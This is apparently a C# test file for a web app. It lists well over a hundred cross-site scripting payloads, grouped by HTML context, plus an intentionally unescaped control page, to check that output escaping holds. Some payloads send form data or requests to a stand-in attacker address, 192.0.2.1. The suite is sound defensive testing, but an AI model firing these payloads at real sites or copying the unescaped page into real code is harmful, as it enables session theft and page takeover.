namespace OffenesHaus.Web.Tests.Hostile;

/// <summary>Words that become a part of the page, or run, wherever one place forgets to escape them. Each calls <c>__x</c> with its number, so that it is known which one ran.</summary>
internal static class Payloads
{
    private const string Written = """
        Text            <script>{x}</script>
        Text            <ScRiPt>{x}</sCrIpT>
        Text            <script/x>{x}</script>
        Text            <script
        Text            <<script>{x}//<</script>
        Text            <img src=x onerror={x}>
        Text            <img src=x onerror="{x}">
        Text            <img src=x onerror='{x}'>
        Text            <IMG SRC=x OnErRoR={x}>
        Text            <img/src=x/onerror={x}>
        Text            <img src=`x`onerror={x}>
        Text            <img\tsrc=x\tonerror={x}>
        Text            <img src=x onerror=&#95;&#95;x({n})>
        Text            <img src=x onerror="&#x5f;&#x5f;x({n})">
        Text            <image src=x onerror={x}>
        Text            <img srcset=x onerror={x}>
        Text            <img src=x:x onerror={x} //
        Text            <svg onload={x}>
        Text            <svg/onload={x}>
        Text            <svg><script>{x}</script></svg>
        Text            <svg><script href="data:text/javascript,{x}"/></svg>
        Text            <svg><a xlink:href="javascript:{x}"><text y=20>a</text></a></svg>
        Text            <svg><animate onbegin={x} attributeName=x dur=1s>
        Text            <svg><set onbegin={x} attributeName=x dur=1s>
        Text            <svg><foreignObject><img src=x onerror={x}></foreignObject></svg>
        Text            <svg><style><img src=x onerror={x}></style></svg>
        Text            <svg><use href="data:image/svg+xml,x" onerror={x}></svg>
        Text            <math><mtext><table><mglyph><style><img src=x onerror={x}>
        Text            <math><a xlink:href="javascript:{x}" href="javascript:{x}">a</a></math>
        Text            <body onload={x}>
        Text            <body onpageshow={x}>
        Text            <iframe src="javascript:{x}"></iframe>
        Text            <iframe srcdoc="<script>parent.{x}</script>"></iframe>
        Text            <iframe onload={x}></iframe>
        Text            <object data="javascript:{x}" onerror={x}></object>
        Text            <embed src="javascript:{x}" onerror={x}>
        Text            <video src=x onerror={x}></video>
        Text            <video><source onerror={x}></video>
        Text            <audio src=x onerror={x}></audio>
        Text            <input onfocus={x} autofocus>
        Text            <select onfocus={x} autofocus></select>
        Text            <textarea onfocus={x} autofocus></textarea>
        Text            <button onclick={x}>a</button>
        Text            <form action="javascript:{x}"><button>a</button></form>
        Text            <button form=nowhere formaction="javascript:{x}">a</button>
        Text            <details ontoggle={x} open>a</details>
        Text            <marquee onstart={x}>a</marquee>
        Text            <div onmouseover={x}>a</div>
        Text            <a href="javascript:{x}">a</a>
        Text            <a href="jav&#x09;ascript:{x}">a</a>
        Text            <a href="&#1;javascript:{x}">a</a>
        Text            <a href=" javascript:{x}">a</a>
        Text            <a href="JaVaScRiPt:{x}">a</a>
        Text            <a href="data:text/html,<script>{x}</script>">a</a>
        Text            <a onclick={x}>a</a>
        Text            <xss onclick={x} tabindex=1>a</xss>
        Text            <xss style="animation-name:x" onanimationstart={x}>a</xss>
        Text            <template><script>{x}</script></template>
        Text            <noscript><p title="</noscript><img src=x onerror={x}>">
        Text            <base href="//192.0.2.1/">
        Text            <link rel=stylesheet href="//192.0.2.1/{n}">
        Text            <meta http-equiv=refresh content="0;url=javascript:{x}">
        Text            <style>@import "//192.0.2.1/{n}";</style>
        Text            <style>*{background:url(//192.0.2.1/{n})}</style>
        Text            <div style="background:url(//192.0.2.1/{n})">a</div>
        Text            <table background="//192.0.2.1/{n}"><tr><td>a</table>
        Text            <img src="//192.0.2.1/{n}">
        Text            <img src='//192.0.2.1/?
        Text            <a href="//192.0.2.1" ping="//192.0.2.1/{n}">a</a>
        Text            <form action="//192.0.2.1"><input name=p><button>a</button></form>
        Text            </form><form id=stolen action="//192.0.2.1">
        Text            <input type=hidden name=__RequestVerificationToken value={n}>
        Text            <img name=body src=x onerror={x}>
        Text            <form id=document><input name=getElementById>
        Text            </main></body></html><script>{x}</script>
        Text            <!--><img src=x onerror={x}>-->
        Text            <!--<img src="--><img src=x onerror={x}//">
        Text            <![CDATA[><img src=x onerror={x}>]]>
        Text            <?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">{x}</script>
        Text            <%<img src=x onerror={x}>%>
        Text            <bdo dir=rtl><img src=x onerror={x}></bdo>
        Text            \u202E<img src=x onerror={x}>
        Text            \u2067<script>{x}</script>\u2069
        Text            صورة <img src=x onerror={x}> ملف
        Text            <img src=x onerror={x}>\uFEFF
        Text            <p>{{constructor.constructor('{x}')()}}</p>
        Text            <p ng-app>{{$on.constructor('{x}')()}}</p>
        Text            <p v-html="'{x}'">${{{x}}}</p>
        Text            <b>@(1+1)@{ {x}; }</b>
        Text            <b>@Html.Raw("{x}")</b>
        Text            <i><%= {x} %><# {x} #></i>
        Text            <s>#{{x}}*{{x}}{%raw%}</s>
        DoubleQuoted    "><script>{x}</script>
        DoubleQuoted    "><img src=x onerror={x}>
        DoubleQuoted    " onfocus={x} autofocus x="
        DoubleQuoted    " onmouseover="{x}
        DoubleQuoted    "/onfocus={x}/autofocus/x="
        DoubleQuoted    " autofocus onfocus="{x}
        DoubleQuoted    " style="animation-name:x" onanimationstart="{x}
        DoubleQuoted    "\tonclick="{x}
        DoubleQuoted    "><svg onload={x}>
        DoubleQuoted    ">"><iframe srcdoc='<img src=x onerror=parent.{x}>'>
        DoubleQuoted    " accesskey=x onclick="{x}
        SingleQuoted    '><script>{x}</script>
        SingleQuoted    '><img src=x onerror={x}>
        SingleQuoted    ' onfocus={x} autofocus x='
        SingleQuoted    ' onmouseover='{x}
        SingleQuoted    '/onclick='{x}
        SingleQuoted    '"><img src=x onerror={x}>
        Bare            x onfocus={x} autofocus
        Bare            x><img src=x onerror={x}>
        Bare            x/onclick={x}
        Link            javascript:{x}
        Link            JAVASCRIPT:{x}
        Link            javascript://%0a{x}
        Link            javascript:/*--></title></style></textarea></script><svg onload='{x}'>*/{x}
        Link            java\tscript:{x}
        Link            data:text/html,<script>{x}</script>
        Link            vbscript:{x}
        Link            //192.0.2.1/{n}
        Script          ";{x};//
        Script          \";{x};//
        Script          </script><script>{x}</script>
        Script          </script><img src=x onerror={x}>
        Script          "-{x}-"
        Script          <!--<script>";{x};//
        ScriptSingle    ';{x};//
        ScriptSingle    '-{x}-'
        ScriptSingle    \';{x};//
        ScriptTemplate  ${{x}}
        ScriptTemplate  `;{x};//
        ScriptTemplate  `-{x}-`
        Json            "}</script><script>{x}</script>
        Json            </script><svg onload={x}>
        Json            <!--<script></script><script>{x}</script>
        TextArea        </textarea><script>{x}</script>
        TextArea        </textarea><img src=x onerror={x}>
        TextArea        </TEXTAREA ><svg onload={x}>
        Title           </title><script>{x}</script>
        Title           </title><img src=x onerror={x}>
        Comment         --><script>{x}</script>
        Comment         --!><img src=x onerror={x}>
        Style           </style><script>{x}</script>
        Style           }*{background:url(//192.0.2.1/{n})}</style><img src=x onerror={x}>
        Drawing         </text><script>{x}</script>
        Drawing         </svg><img src=x onerror={x}>
        Drawing         </text><a href="javascript:{x}"><text y="20">a</text></a>
        """;

    public static IReadOnlyList<(Spot Spot, string Words)> All { get; } =
        [.. Written.Split('\n').Select((line, i) => (Enum.Parse<Spot>(line[..16].Trim()), line[16..].Replace("{x}", $"__x({i})", StringComparison.Ordinal).Replace("{n}", $"{i}", StringComparison.Ordinal)
            .Replace("\\t", "\t", StringComparison.Ordinal).Replace("\\u202E", "\u202E", StringComparison.Ordinal).Replace("\\u2067", "\u2067", StringComparison.Ordinal).Replace("\\u2069", "\u2069", StringComparison.Ordinal).Replace("\\uFEFF", "\uFEFF", StringComparison.Ordinal)))];

    /// <summary>A page that forgets to escape, in one place: nothing but a control for those who look.</summary>
    public static string Forgotten(Spot spot, string words) => "<!doctype html><title>x</title><body><main>" + spot switch
    {
        Spot.Text => $"<p>{words}</p>",
        Spot.DoubleQuoted => $"<input value=\"{words}\">",
        Spot.SingleQuoted => $"<input value='{words}'>",
        Spot.Bare => $"<input value={words}>",
        Spot.Link => $"<a href=\"{words}\">a</a>",
        Spot.Script => $"<script>var a=\"{words}\"</script>",
        Spot.ScriptSingle => $"<script>var a='{words}'</script>",
        Spot.ScriptTemplate => $"<script>var a=`{words}`</script>",
        Spot.Json => $"<script type=\"application/ld+json\">{{\"a\":\"{words}\"}}</script>",
        Spot.TextArea => $"<textarea>{words}</textarea>",
        Spot.Title => $"<svg></svg><title>{words}</title>",
        Spot.Comment => $"<!-- {words} -->",
        Spot.Style => $"<style>p{{content:'{words}'}}</style>",
        Spot.Drawing => $"<svg><text y=20>{words}</text></svg>",
        _ => throw new ArgumentOutOfRangeException(nameof(spot)),
    } + "</main>";
}
